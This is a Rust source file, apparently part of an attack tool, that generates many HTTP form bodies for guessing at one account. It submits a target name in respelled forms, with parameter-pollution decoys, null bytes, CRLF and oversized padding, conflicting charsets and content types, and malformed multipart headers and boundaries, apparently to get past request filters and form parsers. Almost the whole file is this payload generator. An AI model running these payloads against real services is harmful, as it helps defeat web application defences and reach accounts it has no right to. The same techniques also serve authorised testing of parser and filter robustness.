//! Every way to write a guess down that is known: spellings of names, and bodies that readers of forms take for the same form.

use crate::attack::form;
use crate::names::{Alphabet, Draw};

const URLENCODED: &str = "application/x-www-form-urlencoded";

/// The body of a guess, and what it says it is.
#[derive(Clone, Debug)]
pub(crate) struct Guess {
    pub(crate) content_type: String,
    pub(crate) body: Vec<u8>,
}

/// Guesses at one account: in the field `field`, beside these other fields. The first is as browsers send it; then the name
/// in so many spellings, and every body with the plain name and with others.
pub(crate) fn guesses(field: &str, others: &[(&str, &str)], name: &str, spellings: usize) -> Vec<Guess> {
    let alphabet = Alphabet::new();
    let mut draw = Draw::new(7);
    let mut guesses: Vec<Guess> = Vec::new();
    let mut add = |bodies: Vec<(String, Vec<u8>)>| {
        guesses.extend(bodies.into_iter().map(|(content_type, body)| Guess { content_type, body }));
    };
    add(vec![plain(field, others, name)]);
    for _ in 0..spellings {
        add(vec![plain(field, others, &alphabet.spell(name, &mut draw))]);
    }
    for spelled in [name.to_owned(), name.to_uppercase(), alphabet.spell(name, &mut draw)] {
        for bodies in [urlencoded, relabelled, multipart] {
            add(bodies(field, others, &spelled));
        }
    }
    guesses
}

fn plain(field: &str, others: &[(&str, &str)], name: &str) -> (String, Vec<u8>) {
    (URLENCODED.to_owned(), form(&[&[(field, name)], others].concat()).into_bytes())
}

/// Forms with the name somewhere in them.
fn urlencoded(field: &str, others: &[(&str, &str)], name: &str) -> Vec<(String, Vec<u8>)> {
    let pair = form(&[(field, name)]);
    let rest = form(others);
    let value = form(&[("", name)]);
    let value = &value[1..];
    let first = field.chars().next().expect("a name of a field");
    let hex = format!("%{:02x}{}", u32::from(first), &field[first.len_utf8()..]);
    let texts = [
        format!("{rest}&{pair}"),
        format!("&{pair}&{rest}&"),
        format!("?{pair}&{rest}"),
        format!("{pair};{rest}"),
        format!("x;{pair}&{rest}"),
        format!("{pair}&{field}=decoy&{rest}"),
        format!("{field}=decoy&{pair}&{rest}"),
        format!("{}{pair}&{rest}", format!("{field}=decoy&").repeat(9)),
        format!(
            "{}{pair}&{rest}",
            (0..64).map(|number| format!("{field}=decoy{number}&")).collect::<Vec<_>>().concat()
        ),
        format!("{}{pair}&{rest}", format!("{field}=decoy&").repeat(100)),
        format!("{field}[]=decoy&{pair}&{rest}"),
        format!("{pair}&{field}[]=decoy&{rest}"),
        format!("{field}%00x={value}&{rest}"),
        format!("{field}%00={value}&{rest}"),
        format!("+{field}={value}&{rest}"),
        format!("%20{field}={value}&{rest}"),
        format!("{field}%20={value}&{rest}"),
        format!("{hex}={value}&{rest}"),
        format!("{field}]={value}&{rest}"),
        format!("{field}[={value}&{rest}"),
        format!("][{field}={value}&{rest}"),
        format!("{}={value}&{rest}", field.replace('_', ".")),
        format!("{}={value}&{rest}", field.replace('_', "+")),
        format!("{}={value}&{rest}", field.replace('_', "[")),
        format!("{field}==&{pair}&{rest}"),
        format!("{field}={value}%00x&{rest}"),
        format!("{field}=%00{value}&{rest}"),
        format!("{field}=%ff{value}&{rest}"),
        format!("{field}=%c3{value}&{rest}"),
        format!("{field}={value}%0d%0a&{rest}"),
        format!("{field}=%u0061{value}&{rest}"),
        format!("{}{pair}&{rest}", "x=y&".repeat(900)),
        format!("{}&{pair}&{rest}", "x=".to_owned() + &"y".repeat(70_000)),
        format!("{pair}&{rest}&x={}", "y".repeat(70_000)),
        format!("{}={value}&{rest}", field.to_uppercase()),
        format!("\u{feff}{pair}&{rest}"),
        format!("\r\n{pair}&{rest}"),
        format!("{pair}&{rest}\r\n"),
        format!("{pair}&{rest}\0"),
        format!("{pair}#&{rest}"),
        format!("_charset_=utf-16&{pair}&{rest}"),
        format!("_method=GET&{pair}&{rest}"),
        format!("{pair}&{rest}&_method=PUT"),
    ];
    texts.into_iter().map(|text| (URLENCODED.to_owned(), text.into_bytes())).collect()
}

/// A form under other names, and other things under the name of a form.
fn relabelled(field: &str, others: &[(&str, &str)], name: &str) -> Vec<(String, Vec<u8>)> {
    let (_, body) = plain(field, others, name);
    let types = [
        "application/x-www-form-urlencoded; charset=utf-8",
        "application/x-www-form-urlencoded;charset=UTF-16",
        "application/x-www-form-urlencoded; charset=ibm500",
        "application/x-www-form-urlencoded; charset=utf-8; charset=utf-7; x=y; z=1",
        "application/x-www-form-urlencoded, text/plain",
        "application/x-www-form-urlencoded,application/json",
        "APPLICATION/X-WWW-FORM-URLENCODED",
        " application/x-www-form-urlencoded",
        "application/x-www-form-urlencoded ; boundary=x",
        "application/x-www-form-urlencodedx",
        "application/x-www-form-urlencoded/",
        "multipart/form-data",
        "text/plain",
        "application/json",
        "text/xml",
        "application/octet-stream",
        "x",
    ];
    let mut bodies: Vec<(String, Vec<u8>)> = types.iter().map(|kind| ((*kind).to_owned(), body.clone())).collect();
    let members = [&[(field, name)], others].concat();
    let members: serde_json::Map<String, serde_json::Value> =
        members.iter().map(|(name, value)| ((*name).to_owned(), (*value).into())).collect();
    let json = serde_json::Value::Object(members).to_string();
    for kind in ["application/json", URLENCODED, "text/json"] {
        bodies.push((kind.to_owned(), json.clone().into_bytes()));
    }
    bodies
}

/// Forms in parts.
fn multipart(field: &str, others: &[(&str, &str)], name: &str) -> Vec<(String, Vec<u8>)> {
    let part = |head: &str, value: &str| format!("--b\r\n{head}\r\n\r\n{value}\r\n");
    let named = |name: &str, value: &str| part(&format!("Content-Disposition: form-data; name=\"{name}\""), value);
    let rest: String = others.iter().map(|(name, value)| named(name, value)).collect();
    let end = "--b--\r\n";
    let heads = [
        format!("Content-Disposition: form-data; name={field}"),
        format!("Content-Disposition: form-data; name='{field}'"),
        format!("Content-Disposition: form-data; name = \"{field}\""),
        format!("Content-Disposition: form-data; name==\"{field}\""),
        format!("Content-Disposition: form-data; name=\t\"{field}\""),
        format!("Content-Disposition: form-data;name=\"{field}\""),
        format!("Content-Disposition: form-data; NAME=\"{field}\""),
        format!("content-disposition:form-data; name=\"{field}\""),
        format!("Content-Disposition : form-data; name=\"{field}\""),
        format!("Content-Disposition: form-data;\r\n name=\"{field}\""),
        format!("Content-Disposition: form-data; name=\"x\"; name=\"{field}\""),
        format!("Content-Disposition: form-data; name=\"{field}\"; name=\"x\""),
        format!("Content-Disposition: form-data; name=\"{field}\"; filename=\"\""),
        format!("Content-Disposition: form-data; name=\"{field}\"; filename*=x"),
        format!("Content-Disposition: form-data; name=\"{field}\"; x=\"y\""),
        format!("Content-Disposition: form-data; x=\"; name=\\\"y\\\"\"; name=\"{field}\""),
        format!("Content-Disposition: attachment; name=\"{field}\""),
        format!("Content-Disposition: x; name=\"{field}\""),
        format!("Content-Disposition: form-data; name=\"{field}\"\r\nContent-Type: text/plain; charset=utf-16"),
        format!("Content-Disposition: form-data; name=\"{field}\"\r\nContent-Transfer-Encoding: base64"),
        format!("Content-Disposition: form-data; name=\"{field}\"\r\nContent-Transfer-Encoding: quoted-printable"),
        format!("Content-Disposition: form-data; name=\"x\"\r\nContent-Disposition: form-data; name=\"{field}\""),
        format!("X: y\r\nContent-Disposition: form-data; name=\"{field}\""),
        format!("Content-Disposition: form-data; name=\"{field}[\""),
        format!("Content-Disposition: form-data; name=\" {field}\""),
        format!("Content-Disposition: form-data; name=\"{field}\\0\""),
        format!("Content-Disposition: form-data; name=\"\\{field}\""),
        format!("Content-Disposition: form-data; name=\"{field}\u{b}\""),
        format!("Content-Disposition: form-data; name=\u{b}\"{field}\""),
        format!("Content-Disposition: form-data; name*=utf-8''{field}"),
    ];
    let mut texts: Vec<String> = heads.iter().map(|head| format!("{}{rest}{end}", part(head, name))).collect();
    let pair = named(field, name);
    let decoy = named(field, "decoy");
    texts.extend([
        format!("{pair}{rest}{end}"),
        format!("{rest}{pair}{end}"),
        format!("{decoy}{pair}{rest}{end}"),
        format!("{pair}{decoy}{rest}{end}"),
        format!("{}{pair}{rest}{end}", decoy.repeat(64)),
        format!(
            "{}{pair}{rest}{end}",
            (0..64).map(|number| named(field, &format!("decoy{number}"))).collect::<String>()
        ),
        format!("{}{pair}{rest}{end}", named("x", "y").repeat(300)),
        format!("{}{pair}{rest}{end}", named("x", &"y".repeat(70_000))),
        format!("preamble\r\n{pair}{rest}{end}"),
        format!("{rest}{pair}"),
        format!("{pair}{rest}{end}epilogue"),
        format!("\r\n{pair}{rest}{end}"),
        format!("{pair}{rest}{end}").replace("\r\n", "\n"),
        format!("{pair}{rest}{end}").replace("--b\r\n", "--b \r\n"),
        format!("{pair}{rest}{end}").replace("\r\n\r\n", "\r\n\r\n\r\n"),
    ]);
    let mut bodies: Vec<(String, Vec<u8>)> =
        texts.iter().map(|text| ("multipart/form-data; boundary=b".to_owned(), text.clone().into_bytes())).collect();
    let ordinary = format!("{pair}{rest}{end}").into_bytes();
    for kind in [
        "multipart/form-data; boundary=\"b\"",
        "multipart/form-data;boundary=b",
        "multipart/form-data; boundary=b ",
        "multipart/form-data; boundary=b; boundary=c",
        "multipart/form-data; boundary=c; boundary=b",
        "multipart/form-data; boundary=b, x",
        "multipart/form-data; boundary=b;charset=utf-16",
        "multipart/form-data; BOUNDARY=b",
        "multipart/form-data; x=boundary=c; boundary=b",
        "multipart/mixed; boundary=b",
        "Multipart/Form-Data; boundary=b",
        "multipart/form-data boundary=b",
        "multipart/form-data, boundary=b",
    ] {
        bodies.push((kind.to_owned(), ordinary.clone()));
    }
    bodies
}
